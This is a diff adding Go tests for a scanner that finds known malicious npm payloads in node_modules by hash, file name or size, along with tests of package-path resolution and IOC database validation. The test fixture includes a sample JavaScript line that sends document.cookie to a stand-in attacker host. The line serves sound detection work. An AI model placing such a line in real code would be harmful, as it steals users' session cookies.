@@ -0,0 +1,126 @@
+package main
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"sync"
+	"testing"
+)
+
+func TestScanNodeModulesPayloads(t *testing.T) {
+	payload := []byte("fetch('https://evil.example/steal?' + document.cookie)\n")
+	sum := sha256.Sum256(payload)
+	saved := knownPayloads
+	knownPayloads = newPayloadIndex([]PayloadIOC{
+		{SHA256: hex.EncodeToString(sum[:]), FileName: "bundle.js", Description: "test drainer"},
+	})
+	t.Cleanup(func() { knownPayloads = saved })
+
+	dir := t.TempDir()
+	files := map[string][]byte{
+		// The payload under a listed name, renamed, and outside node_modules
+		"node_modules/@ctrl/tinycolor/bundle.js": payload,
+		"node_modules/left-pad/lib/index.js":     payload,
+		"src/bundle.js":                          payload,
+		// Same name, different content
+		"node_modules/chalk/bundle.js": []byte("module.exports = {}\n"),
+	}
+	for name, data := range files {
+		path := filepath.Join(dir, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, data, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	scan := func() []Finding {
+		var mu sync.Mutex
+		var found []Finding
+		jobs := make(chan func())
+		done := make(chan struct{})
+		go func() {
+			for job := range jobs {
+				job()
+			}
+			close(done)
+		}()
+		var wg sync.WaitGroup
+		scanNodeModulesPayloads(dir, jobs, &wg, func(f Finding) {
+			mu.Lock()
+			defer mu.Unlock()
+			found = append(found, f)
+		}, false)
+		wg.Wait()
+		close(jobs)
+		<-done
+		return found
+	}
+
+	// With only a fileName hint, the renamed copy is never hashed
+	found := scan()
+	if len(found) != 1 {
+		t.Fatalf("got %d findings, want 1: %+v", len(found), found)
+	}
+	f := found[0]
+	if f.Package != "@ctrl/tinycolor" || f.Type != "payload" || f.Payload.Description != "test drainer" ||
+		f.Version != "sha256:"+hex.EncodeToString(sum[:])[:12] {
+		t.Errorf("finding = %+v", f)
+	}
+
+	// A size hint catches it under any name, but still only in node_modules
+	knownPayloads = newPayloadIndex([]PayloadIOC{
+		{SHA256: hex.EncodeToString(sum[:]), Size: int64(len(payload))},
+	})
+	var packages []string
+	for _, f := range scan() {
+		packages = append(packages, f.Package)
+	}
+	sort.Strings(packages)
+	if strings.Join(packages, " ") != "@ctrl/tinycolor left-pad" {
+		t.Errorf("size-matched payloads in %v, want @ctrl/tinycolor and left-pad", packages)
+	}
+}
+
+func TestOwningPackage(t *testing.T) {
+	tests := []struct {
+		path string
+		want string
+	}{
+		{"/app/node_modules/chalk/index.js", "chalk"},
+		{"/app/node_modules/chalk/source/vendor/index.js", "chalk"},
+		{"/app/node_modules/@ctrl/tinycolor/dist/bundle.js", "@ctrl/tinycolor"},
+		{"/app/node_modules/a/node_modules/b/index.js", "b"},
+		{"/app/src/index.js", "index.js"},
+	}
+	for _, tt := range tests {
+		if got := owningPackage(tt.path); got != tt.want {
+			t.Errorf("owningPackage(%q) = %q, want %q", tt.path, got, tt.want)
+		}
+	}
+}
+
+func TestPayloadIOCValidation(t *testing.T) {
+	const hash = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
+	tests := []struct {
+		payloads string
+		want     string
+	}{
+		{`[{"sha256": "ABC", "size": 1}]`, "64 lowercase hex"},
+		{`[{"sha256": "` + hash + `"}]`, "needs a fileName or a positive size"},
+		{`[{"sha256": "` + hash + `", "fileName": "dist/bundle.js"}]`, "must be a base name"},
+		{`[{"sha256": "` + hash + `", "size": 1}, {"sha256": "` + hash + `", "size": 2}]`, "duplicate hash"},
+		{`[{"sha256": "` + hash + `", "size": 1, "campaign": "nope"}]`, `unknown campaign "nope"`},
+	}
+	for _, tt := range tests {
+		data := `{"schemaVersion": 3, "generated": "2025-09-16", "source": "test", "packages": [{"name": "a", "versions": ["1.0.0"]}], "payloads": ` + tt.payloads + `}`
+		if _, err := parseIOCDatabase([]byte(data)); err == nil || !strings.Contains(err.Error(), tt.want) {
+			t.Errorf("%s: got %v, want an error containing %q", tt.payloads, err, tt.want)
+		}
+	}
+}